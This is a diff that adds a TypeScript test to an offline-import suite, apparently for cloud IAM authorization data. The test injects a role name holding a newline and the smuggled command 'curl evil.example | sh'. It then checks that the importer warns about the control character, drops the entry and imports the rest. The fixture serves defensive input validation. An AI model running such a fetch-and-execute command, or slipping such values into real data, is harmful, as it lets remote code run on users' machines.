@@ -176,3 +176,16 @@ describe('importOfflineDirectory', () => {
     expect(result.fileErrors).toEqual([{ file: broken, code: 'malformed-json', message: expect.stringContaining('not valid JSON') }]);
   });
 });
+
+describe('control characters at import', () => {
+  it('names the file and the field, leaves the entry out and imports the rest', async () => {
+    const details = JSON.parse(authorizationText) as { RoleDetailList: Array<{ RoleName: string }> };
+    details.RoleDetailList[1].RoleName = 'github-deployer\ncurl evil.example | sh';
+    const file = write('tampered.json', JSON.stringify(details));
+    const result = await importOfflineDirectory(directory, { capturedAt: '2026-11-01T00:00:00.000Z' });
+    expect(result.warnings).toContainEqual(expect.stringContaining(`${file}: RoleDetailList[1].RoleName holds a control character (U+000A)`));
+    expect(result.snapshot.accounts[0].roles.map((role) => role.name)).not.toContain('github-deployer\ncurl evil.example | sh');
+    expect(result.snapshot.accounts[0].roles).toHaveLength(2);
+    expect(result.snapshot.accounts[0].users).toHaveLength(2);
+  });
+});
